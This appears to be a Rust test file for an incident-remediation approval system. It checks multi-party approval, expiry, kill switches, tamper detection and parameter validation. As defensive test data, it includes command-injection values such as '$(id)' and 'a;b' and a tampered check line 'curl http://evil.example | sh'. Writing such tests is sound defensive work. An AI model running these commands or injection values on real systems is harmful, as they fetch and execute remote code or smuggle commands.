//! Who must agree, and what nobody can agree to.

use std::time::Duration;

use actors::domain::approval::{ApprovalRefusal, ApprovalStatus};
use actors::domain::{CompanyId, IncidentStatus, Phase, Signal};
use actors::port::record::{ALL_RUNS, Content};
use actors::port::{Amended, Amendment, Put};
use actors::tool::targets::NoTargets;
use serde_json::json;

use super::*;

fn high() -> RunAsk {
    ask("stuck-process", json!({"name": "worker"}))
}

#[tokio::test(start_paused = true)]
async fn four_eyes_see_what_is_of_high_risk_and_agreeing_executes() {
    let tree = Tree::grow().await;
    let (acme, row) = troubled(&tree, Policy::default(), "other").await;
    let approval = asked(execute(&tree, &row, high(), "usr-ann", Approver::MspAdmin).await);
    assert_eq!(phase(&self::row(&tree, &acme).await), Phase::AwaitingApproval);
    let yes = || Word::Approve(Some(approval.hash.clone()));
    let own = refusal(say(&tree, &approval, yes(), "usr-ann", Approver::MspAdmin).await);
    assert_eq!(own, RunRefusal::Approval(ApprovalRefusal::Own));
    let low = refusal(say(&tree, &approval, yes(), "usr-tim", Approver::CompanyAdmin).await);
    assert!(matches!(low, RunRefusal::Approval(ApprovalRefusal::NotEntitled(_))));
    let other = Word::Approve(Some("ab".repeat(32)));
    let other = refusal(say(&tree, &approval, other, "usr-bob", Approver::MspAdmin).await);
    assert_eq!(other, RunRefusal::Approval(ApprovalRefusal::Otherwise));
    assert_eq!(tree.cloud.runs().len(), 0);
    let decided = say(&tree, &approval, yes(), "usr-bob", Approver::MspAdmin)
        .await
        .unwrap();
    assert_eq!(decided.approval.status, ApprovalStatus::Consumed);
    let run = decided.begun.unwrap().run;
    assert_eq!(
        (&run.run_id, run.hash.as_str()),
        (&approval.run_id, approval.hash.as_str())
    );
    assert_eq!(run.commands, approval.commands);
    let again = refusal(say(&tree, &approval, yes(), "usr-eve", Approver::MspAdmin).await);
    assert_eq!(
        again,
        RunRefusal::Approval(ApprovalRefusal::NotPending(ApprovalStatus::Consumed))
    );
}

#[tokio::test(start_paused = true)]
async fn an_incident_asks_for_itself_and_its_recovery_withdraws_it() {
    let tree = Tree::grow().await;
    let (acme, _) = troubled(&tree, Policy::default(), "disk-space").await;
    let row = until(&tree, &acme, Phase::AwaitingApproval).await;
    let [approval] = &approvals(&tree, &acme).await[..] else {
        panic!("one approval")
    };
    assert_eq!(
        (approval.requested_by.as_str(), approval.runbook.as_str()),
        ("incident", "disk-cleanup")
    );
    tree.send(&acme, "web-1", "disk-space", Signal::Resolved).await;
    let row = {
        drop(row);
        until(&tree, &acme, Phase::Resolved).await
    };
    assert_eq!(row.life.resolved_by.as_deref(), Some("recovery"));
    let withdrawn = &approvals(&tree, &acme).await[0];
    assert_eq!(withdrawn.status, ApprovalStatus::Withdrawn);
    let late = refusal(say(&tree, withdrawn, Word::Approve(None), "usr-bob", Approver::MspAdmin).await);
    assert!(matches!(late, RunRefusal::Approval(ApprovalRefusal::NotPending(_))));
    assert_eq!(tree.cloud.runs().len(), 0);
}

#[tokio::test(start_paused = true)]
async fn an_approval_survives_the_process_and_expires_in_an_hour() {
    let mut tree = Tree::grow().await;
    let (acme, row) = troubled(&tree, Policy::default(), "other").await;
    let approval = asked(execute(&tree, &row, high(), "usr-ann", Approver::MspAdmin).await);
    tree.regrow().await;
    assert_eq!(phase(&self::row(&tree, &acme).await), Phase::AwaitingApproval);
    tokio::time::sleep(Duration::from_secs(3605)).await;
    let expired = refusal(say(&tree, &approval, Word::Approve(None), "usr-bob", Approver::MspAdmin).await);
    assert!(matches!(expired, RunRefusal::Approval(_)), "{expired:?}");
    assert_eq!(approvals(&tree, &acme).await[0].status, ApprovalStatus::Expired);
    let row = self::row(&tree, &acme).await;
    assert_eq!((&row.life.remedy, row.life.status), (&None, IncidentStatus::New));
    assert_eq!(tree.cloud.runs().len(), 0);
}

#[tokio::test(start_paused = true)]
async fn two_must_agree_where_the_policy_says_so_also_where_it_says_so_later() {
    let tree = Tree::grow().await;
    let (acme, row) = troubled(&tree, Policy::default(), "other").await;
    let approval = asked(execute(&tree, &row, high(), "usr-ann", Approver::MspAdmin).await);
    let strict = Policy {
        high_risk_approvals: 2,
        ..Policy::default()
    };
    tree.connect(&acme, strict).await;
    let yes = || Word::Approve(None);
    let first = say(&tree, &approval, yes(), "usr-bob", Approver::MspAdmin)
        .await
        .unwrap();
    assert!(first.begun.is_none());
    assert_eq!(
        (first.approval.status, first.approval.decided_by.len()),
        (ApprovalStatus::Pending, 1)
    );
    let twice = refusal(say(&tree, &approval, yes(), "usr-bob", Approver::MspAdmin).await);
    assert_eq!(twice, RunRefusal::Approval(ApprovalRefusal::Twice));
    let second = say(&tree, &approval, yes(), "usr-eve", Approver::MspAdmin)
        .await
        .unwrap();
    assert!(second.begun.is_some());
    assert_eq!(row.incident_id, approval.incident_id);
}

#[tokio::test(start_paused = true)]
async fn who_has_asked_may_take_it_back() {
    let tree = Tree::grow().await;
    let (acme, row) = troubled(&tree, Policy::default(), "other").await;
    let approval = asked(execute(&tree, &row, high(), "usr-tim", Approver::Technician).await);
    let other = refusal(say(&tree, &approval, Word::Reject, "usr-tom", Approver::Technician).await);
    assert!(matches!(other, RunRefusal::Approval(ApprovalRefusal::NotEntitled(_))));
    let back = say(&tree, &approval, Word::Reject, "usr-tim", Approver::Technician)
        .await
        .unwrap();
    assert_eq!(back.approval.status, ApprovalStatus::Rejected);
    assert_eq!(self::row(&tree, &acme).await.life.remedy, None);
}

#[tokio::test(start_paused = true)]
async fn kill_switches_stop_everything_that_is_not_sent() {
    let tree = Tree::grow().await;
    let (acme, row) = troubled(&tree, Policy::default(), "other").await;
    let approval = asked(execute(&tree, &row, high(), "usr-ann", Approver::MspAdmin).await);
    let yes = || Word::Approve(None);
    let stopped = Policy {
        stopped: true,
        ..Policy::default()
    };
    tree.connect(&acme, stopped).await;
    assert_eq!(
        refusal(say(&tree, &approval, yes(), "usr-bob", Approver::MspAdmin).await),
        RunRefusal::Stopped
    );
    tree.connect(&acme, Policy::default()).await;
    throw(&tree, true).await;
    assert_eq!(
        refusal(say(&tree, &approval, yes(), "usr-bob", Approver::MspAdmin).await),
        RunRefusal::AllStopped
    );
    assert_eq!(
        approvals(&tree, &acme).await[0].status,
        ApprovalStatus::Pending,
        "nothing is used up"
    );
    throw(&tree, false).await;
    assert!(
        say(&tree, &approval, yes(), "usr-bob", Approver::MspAdmin)
            .await
            .is_ok()
    );
}

async fn throw(tree: &Tree, on: bool) {
    let platform = CompanyId::platform();
    let put = match on {
        true => Put {
            kind: RecordKind::Switches,
            id: ALL_RUNS.to_owned(),
            expect: None,
            to: Some(Content {
                lookup: None,
                expires_at: None,
                body: json!({}),
            }),
        },
        false => Put::remove(RecordKind::Switches, ALL_RUNS.to_owned(), 1),
    };
    let amendment = Amendment {
        puts: vec![put],
        ..Amendment::default()
    };
    let amended = tree.runtime.amend(&platform, amendment, WITHIN).await;
    assert_eq!(amended, Ok(Amended::Done));
}

#[tokio::test(start_paused = true)]
async fn what_was_altered_in_the_store_is_of_no_use() {
    let tree = Tree::grow().await;
    let (acme, row) = troubled(&tree, Policy::default(), "other").await;
    let approval = asked(execute(&tree, &row, high(), "usr-ann", Approver::MspAdmin).await);
    let mut altered = approval.clone();
    let line = altered.commands.last_mut().unwrap();
    line.push('x');
    let change = Amendment {
        puts: vec![Put::change(&altered, 1).unwrap()],
        ..Amendment::default()
    };
    assert_eq!(tree.runtime.amend(&acme, change, WITHIN).await, Ok(Amended::Done));
    let used = refusal(say(&tree, &approval, Word::Approve(None), "usr-bob", Approver::MspAdmin).await);
    assert_eq!(used, RunRefusal::Altered(approval.approval_id.clone()));
    let approval = asked(execute(&tree, &row, high(), "usr-ann", Approver::MspAdmin).await);
    let mut elsewhere = approval.clone();
    elsewhere.targets = vec!["i-0000000b".to_owned()];
    let change = Amendment {
        puts: vec![Put::change(&elsewhere, 1).unwrap()],
        ..Amendment::default()
    };
    assert_eq!(tree.runtime.amend(&acme, change, WITHIN).await, Ok(Amended::Done));
    let used = refusal(say(&tree, &approval, Word::Approve(None), "usr-bob", Approver::MspAdmin).await);
    assert_eq!(used, RunRefusal::Altered(approval.approval_id.clone()));
    assert_eq!(tree.cloud.runs().len(), 0);
}

#[tokio::test(start_paused = true)]
async fn only_the_companys_own_machines_and_known_runbooks() {
    let tree = Tree::grow().await;
    let (_, row) = troubled(&tree, Policy::default(), "other").await;
    let mut foreign = ask("disk-cleanup", nothing());
    foreign.instance_ids = Some(vec!["i-0000000f".parse().unwrap()]);
    let unknown = refusal(execute(&tree, &row, foreign, "usr-ann", Approver::MspAdmin).await);
    assert!(matches!(unknown, RunRefusal::Targets(NoTargets::Unknown(_))));
    let none = refusal(execute(&tree, &row, ask("rm-rf", nothing()), "usr-ann", Approver::MspAdmin).await);
    assert_eq!(none, RunRefusal::NoSuchRunbook);
    for value in ["a;b", "$(id)", "`id`", "a\nb", "{{ssm:secret}}", "-rf", "w\u{43e}rker"] {
        let bad = ask("stuck-process", json!({"name": value}));
        let refused = refusal(execute(&tree, &row, bad, "usr-ann", Approver::MspAdmin).await);
        assert!(matches!(refused, RunRefusal::Parameters(_)), "{value}: {refused:?}");
    }
    tree.cloud.is_away(true);
    let away = refusal(
        execute(
            &tree,
            &row,
            ask("disk-cleanup", nothing()),
            "usr-ann",
            Approver::MspAdmin,
        )
        .await,
    );
    assert!(matches!(away, RunRefusal::Cloud(_)));
    assert_eq!(tree.cloud.runs().len(), 0);
}

#[tokio::test(start_paused = true)]
async fn what_a_health_check_would_run_is_seen_and_agreed_to_as_well() {
    let tree = Tree::grow().await;
    let (acme, row) = troubled(&tree, Policy::default(), "other").await;
    let approval = asked(execute(&tree, &row, high(), "usr-ann", Approver::MspAdmin).await);
    assert!(approval.check.as_ref().is_some_and(|check| !check.is_empty()));
    let mut altered = approval.clone();
    altered.check = Some(vec!["curl http://evil.example | sh".to_owned()]);
    let change = Amendment {
        puts: vec![Put::change(&altered, 1).unwrap()],
        ..Amendment::default()
    };
    assert_eq!(tree.runtime.amend(&acme, change, WITHIN).await, Ok(Amended::Done));
    let used = refusal(say(&tree, &approval, Word::Approve(None), "usr-bob", Approver::MspAdmin).await);
    assert_eq!(used, RunRefusal::Altered(approval.approval_id.clone()));
    // It is of no use to anybody, and does not keep the incident from another.
    assert_eq!(approvals(&tree, &acme).await[0].status, ApprovalStatus::Withdrawn);
    let again = asked(execute(&tree, &row, high(), "usr-ann", Approver::MspAdmin).await);
    assert_ne!(again.approval_id, approval.approval_id);
}

#[tokio::test(start_paused = true)]
async fn a_runbook_that_has_changed_is_asked_for_again() {
    let tree = Tree::grow().await;
    let (acme, row) = troubled(&tree, Policy::default(), "other").await;
    let wanted = || ask("tmp-cleanup", nothing());
    let approval = asked(execute(&tree, &row, wanted(), "usr-ann", Approver::MspAdmin).await);
    let mut own = library::built_in()
        .unwrap()
        .into_iter()
        .find(|runbook| runbook.slug == "tmp-cleanup")
        .unwrap();
    own.runbook_id = "rbk-00000000-0000-7000-8000-000000000009".parse().unwrap();
    own.script.push_str("echo done\n");
    tree.shelve(&acme, &own).await;
    let used = refusal(say(&tree, &approval, Word::Approve(None), "usr-bob", Approver::MspAdmin).await);
    assert_eq!(used, RunRefusal::RunbookChanged);
    let kinds = tree.kinds(&acme, &row.incident_id).await;
    assert!(
        kinds.iter().any(|kind| kind == "approval.decided"),
        "withdrawn: {kinds:?}"
    );
    let again = asked(execute(&tree, &row, wanted(), "usr-ann", Approver::MspAdmin).await);
    assert!(again.commands.contains(&"echo done".to_owned()));
}

#[tokio::test(start_paused = true)]
async fn consent_is_not_used_up_where_the_company_is_not_connected_any_more() {
    let tree = Tree::grow().await;
    let (acme, row) = troubled(&tree, Policy::default(), "other").await;
    let approval = asked(execute(&tree, &row, high(), "usr-ann", Approver::MspAdmin).await);
    let mut settings = tree.reader(&acme).company().await.unwrap();
    settings.version += 1;
    settings.aws = None;
    let cut_off = Amendment {
        company: Some(settings),
        ..Amendment::default()
    };
    assert_eq!(tree.runtime.amend(&acme, cut_off, WITHIN).await, Ok(Amended::Done));
    let yes = || Word::Approve(None);
    let away = refusal(say(&tree, &approval, yes(), "usr-bob", Approver::MspAdmin).await);
    assert_eq!(away, RunRefusal::Cloud(actors::port::cloud::CloudError::NotConnected));
    tree.connect(&acme, Policy::default()).await;
    assert!(
        say(&tree, &approval, yes(), "usr-bob", Approver::MspAdmin)
            .await
            .is_ok()
    );
}

#[tokio::test(start_paused = true)]
async fn what_was_agreed_to_for_one_account_does_not_run_in_another() {
    let tree = Tree::grow().await;
    let (acme, row) = troubled(&tree, Policy::default(), "other").await;
    let approval = asked(execute(&tree, &row, high(), "usr-ann", Approver::MspAdmin).await);
    tree.connect_in(&acme, Policy::default(), "us-east-1").await;
    let yes = Word::Approve(Some(approval.hash.clone()));
    let moved = refusal(say(&tree, &approval, yes, "usr-bob", Approver::MspAdmin).await);
    assert_eq!(moved, RunRefusal::AccountChanged);
    assert_eq!(tree.cloud.runs().len(), 0);
    assert_eq!(approvals(&tree, &acme).await[0].status, ApprovalStatus::Withdrawn);
}
